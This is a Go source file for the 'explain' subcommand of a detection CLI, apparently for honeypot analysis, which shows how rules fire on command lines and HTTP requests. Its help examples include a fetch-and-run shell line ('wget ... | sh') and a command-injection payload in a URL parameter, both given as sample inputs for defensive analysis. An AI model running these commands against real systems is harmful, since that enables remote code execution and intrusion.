package main

import (
	"context"
	"errors"
	"io"
	"slices"

	"github.com/spf13/cobra"
	"github.com/spf13/pflag"

	"ttpctl/internal/engine"
	"ttpctl/internal/event"
	"ttpctl/internal/report/explain"
	"ttpctl/internal/store/rulesdir"
)

// explainFlags are the flags of `ttpctl explain`.
type explainFlags struct {
	output  outputs
	rules   rulesdir.Layers
	event   string
	kind    string
	pwd     string
	session string
	ask     []string // --rule
}

// newExplainCmd returns `ttpctl explain`.
func newExplainCmd(a *app) *cobra.Command {
	var f explainFlags
	cmd := &cobra.Command{
		Use:   "explain COMMAND-LINE|EVENT|-",
		Short: "Show what a shell would make of a command line, which rules fire and why",
		Long: `Show what a shell would make of a command line, what each of its commands would
do, which rules fire on it and on which bytes, and with --rule why a rule does
or does not: each part of its match, with the values it looked at.

The input is a command line (several arguments are joined by a blank; quote
it, or put -- before it, when it has options), an event as JSON, or - for
stdin: one or the other on each line, at most 1,000 of them. A line that begins
with { and a name in double quotes is an event. Values that may not be evidence,
such as passwords, are not shown.

With --kind the input is what events of another kind hold: for http_request a
request line or URL, behind which headers and, after an empty line, a body may
stand. Each parameter and header of a request is shown as it was sent and in
all forms that something behind the server may decode it to.

Exit code 2 says that there was no input, that an event is malformed or that
no rule has that id. A rule that does not fire is not a failure.`,
		Example: `  ttpctl explain 'cd /tmp; wget http://192.0.2.7/x.sh -O- | sh'
  ttpctl explain --rule R0012 'echo wget http://192.0.2.7/x.sh'
  ttpctl explain --event '{"source_kind":"auth_attempt","source_id":"a1","attacker_ip":"192.0.2.7","payload":{"username":"root"}}'
  ttpctl explain --kind http_request -- 'GET /ping?host=192.0.2.1%3Bwget+http://192.0.2.7/x.sh'
  jq -r 'select(.eventid == "cowrie.command.input").input' cowrie.json | head -50 | ttpctl explain -o json -`,
		ValidArgsFunction: cobra.NoFileCompletions,
	}
	fs := cmd.Flags()
	outputFlag(cmd, &f.output, "table", "json")
	fs.StringVar(&f.event, "event", "", "the `event` to explain, a JSON object")
	enumVar(cmd, fs, &f.kind, "kind", event.KindCommand.String(), explain.TextKinds(), "what inputs that are no event are: the default field of this kind")
	fs.StringVar(&f.session, "session", "", "a `file` of command lines or events, - for stdin, explained as one session")
	fs.StringVar(&f.pwd, "pwd", "", "the `directory` in which the command lines were typed")
	fs.StringSliceVar(&f.ask, "rule", nil, "also show why the rule with this `id` fires or does not; repeatable")
	cmd.SetFlagErrorFunc(explainFlagError)
	cmd.RunE = a.run(func(ctx context.Context, args []string) error {
		f.rules = a.globals.rules
		return runExplanation(ctx, f, args, a.streams)
	})
	return cmd
}

// explainFlagError is flagError that knows where a strange option comes from:
// a command line that was not quoted.
func explainFlagError(cmd *cobra.Command, err error) error {
	if missing, ok := errors.AsType[*pflag.NotExistError](err); ok && missing.GetSpecifiedShortnames() != "" {
		return cannotRun("quote the command line: ttpctl explain 'uname -a'", "%w", err)
	}
	return flagError(cmd, err)
}

// runExplanation explains the input that args, or f.event, hold.
func runExplanation(ctx context.Context, f explainFlags, args []string, s *streams) error {
	list, err := f.output.choose(s, "table")
	if err != nil {
		return err
	}
	if slices.Equal(args, []string{"-"}) || f.session == "-" {
		err = s.guard(list, "-")
	}
	if err != nil {
		return err
	}
	inputs, err := f.inputs(ctx, args, s)
	if err != nil {
		return err
	}
	rules, err := loadRules(ctx, s, f.rules)
	if err != nil {
		return err
	}
	if err := knowsAll(rules, f.ask); err != nil {
		return err
	}
	now := s.now()
	snap := engine.NewSnapshot(rules, nil, now)
	x := explain.New(snap, now, explain.Options{Kind: event.ParseKind(f.kind), PWD: f.pwd, Ask: f.ask, Session: f.session != ""})
	out, err := newExplainOutputs(list, snap, s)
	if err != nil {
		return err
	}
	err = x.Run(ctx, inputs, out.write)
	for _, p := range x.TakePanics() {
		s.log.Warn(p.Message(), "rule", p.RuleID, "kind", p.Kind.String(), "panic", p.Value)
	}
	return joinErrors(err, out.finish(err))
}

// inputs returns what is to be explained.
func (f *explainFlags) inputs(ctx context.Context, args []string, s *streams) ([]explain.Input, error) {
	g := explain.Given{Event: f.event, Session: f.session, Args: args, Stdin: s.in, Open: func(name string) (io.Reader, error) {
		return readSmall(ctx, "--session", name, s)
	}}
	return g.Inputs(ctx)
}
